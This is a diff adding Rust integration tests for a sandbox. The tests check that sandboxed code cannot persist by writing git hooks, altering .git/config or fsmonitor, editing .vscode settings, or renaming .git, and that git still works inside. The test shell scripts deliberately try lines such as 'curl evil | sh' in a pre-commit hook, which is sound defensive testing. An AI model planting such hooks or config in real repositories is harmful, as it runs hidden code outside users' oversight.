@@ -1,0 +1,151 @@
+//! Persistence: nothing written in the sandbox may run later outside it.
+//! Protected paths are read-only, cannot be renamed or replaced, and a
+//! protected path the sandbox creates is moved aside after the run.
+
+mod common;
+
+use common::{Env, modes};
+use std::process::Command;
+
+fn git(dir: &std::path::Path, args: &[&str]) {
+    let st = Command::new("git")
+        .args([
+            "-c",
+            "user.name=t",
+            "-c",
+            "user.email=t@t",
+            "-c",
+            "init.defaultBranch=main",
+        ])
+        .args(args)
+        .current_dir(dir)
+        .status()
+        .unwrap();
+    assert!(st.success(), "git {args:?}");
+}
+
+#[test]
+fn protected_paths_cannot_be_written_renamed_or_replaced() {
+    for mode in modes() {
+        let env = Env::new(mode);
+        git(&env.project.path, &["init", "-q"]);
+        env.project.write(".vscode/settings.json", "{}\n");
+        env.project.write("src.txt", "code\n");
+        let config_before = std::fs::read_to_string(env.project.join(".git/config")).unwrap();
+        env.own();
+        let out = env.sh(
+            "echo 'curl evil | sh' > .git/hooks/pre-commit 2>&1 || echo hook=refused
+             echo '[core] hooksPath = /tmp' >> .git/config 2>&1 || echo config=refused
+             git config core.fsmonitor 'sh -c evil' 2>&1 || echo gitconfig=refused
+             echo '* filter=evil' > .git/info/attributes 2>&1 || echo attributes=refused
+             echo '{\"task\":1}' > .vscode/settings.json 2>&1 || echo vscode=refused
+             mv .git .git.old 2>&1 || echo mvgit=refused
+             mv .git/hooks .git/hooks.old 2>&1 || echo mvhooks=refused
+             rm -rf .git/hooks 2>&1 || echo rmhooks=refused
+             mv .vscode .vscode.old 2>&1 || echo mvvscode=refused
+             ln -s /tmp/evil .git/hooks/post-checkout 2>&1 || echo symlink=refused
+             echo 'evil' > .envrc && echo envrc=created-inside",
+        );
+        out.expect_code(0);
+        for key in [
+            "hook",
+            "config",
+            "gitconfig",
+            "attributes",
+            "vscode",
+            "mvgit",
+            "mvhooks",
+            "rmhooks",
+            "mvvscode",
+            "symlink",
+        ] {
+            assert_eq!(
+                out.field(key).as_deref(),
+                Some("refused"),
+                "{key}\n{}",
+                out.all()
+            );
+        }
+        // The right reasons: read-only mounts and busy mount points.
+        assert!(
+            out.stdout.contains("Read-only file system"),
+            "{}",
+            out.all()
+        );
+        assert!(
+            out.stdout.contains("Device or resource busy"),
+            "{}",
+            out.all()
+        );
+        // The host is unchanged.
+        assert!(!env.project.join(".git/hooks/pre-commit").exists());
+        assert!(!env.project.join(".git.old").exists());
+        assert_eq!(
+            std::fs::read_to_string(env.project.join(".git/config")).unwrap(),
+            config_before
+        );
+        assert_eq!(
+            std::fs::read_to_string(env.project.join(".vscode/settings.json")).unwrap(),
+            "{}\n"
+        );
+        // A protected path created inside is moved aside after the run.
+        assert_eq!(out.field("envrc").as_deref(), Some("created-inside"));
+        assert!(
+            !env.project.join(".envrc").exists(),
+            ".envrc survived the run"
+        );
+        assert!(out.stderr.contains("moved it to"), "{}", out.stderr);
+    }
+}
+
+#[test]
+fn git_still_works_inside() {
+    for mode in modes() {
+        let env = Env::new(mode);
+        git(&env.project.path, &["init", "-q"]);
+        env.project.write("a.txt", "a\n");
+        env.own();
+        let out = env.sh(
+            "git add a.txt && git -c user.name=t -c user.email=t@t commit -qm first && echo commit=ok
+             git checkout -q -b feature && echo branch=ok
+             echo b > b.txt && git add b.txt && git -c user.name=t -c user.email=t@t commit -qm second && echo commit2=ok
+             git log --oneline | wc -l",
+        );
+        out.expect_code(0);
+        for key in ["commit", "branch", "commit2"] {
+            assert_eq!(
+                out.field(key).as_deref(),
+                Some("ok"),
+                "{key}\n{}",
+                out.all()
+            );
+        }
+        let log = Command::new("git")
+            .args(["-c", "safe.directory=*", "log", "--oneline", "feature"])
+            .current_dir(&env.project.path)
+            .output()
+            .unwrap();
+        assert_eq!(String::from_utf8_lossy(&log.stdout).lines().count(), 2);
+    }
+}
+
+#[test]
+fn missing_hooks_dir_cannot_be_created() {
+    for mode in modes() {
+        let env = Env::new(mode);
+        git(&env.project.path, &["init", "-q", "--template="]);
+        assert!(!env.project.join(".git/hooks").exists());
+        env.own();
+        let out = env.sh(
+            "mkdir -p .git/hooks && echo evil > .git/hooks/pre-commit 2>&1 || echo hook=refused",
+        );
+        out.expect_code(0);
+        assert_eq!(
+            out.field("hook").as_deref(),
+            Some("refused"),
+            "{}",
+            out.all()
+        );
+        assert!(!env.project.join(".git/hooks/pre-commit").exists());
+    }
+}
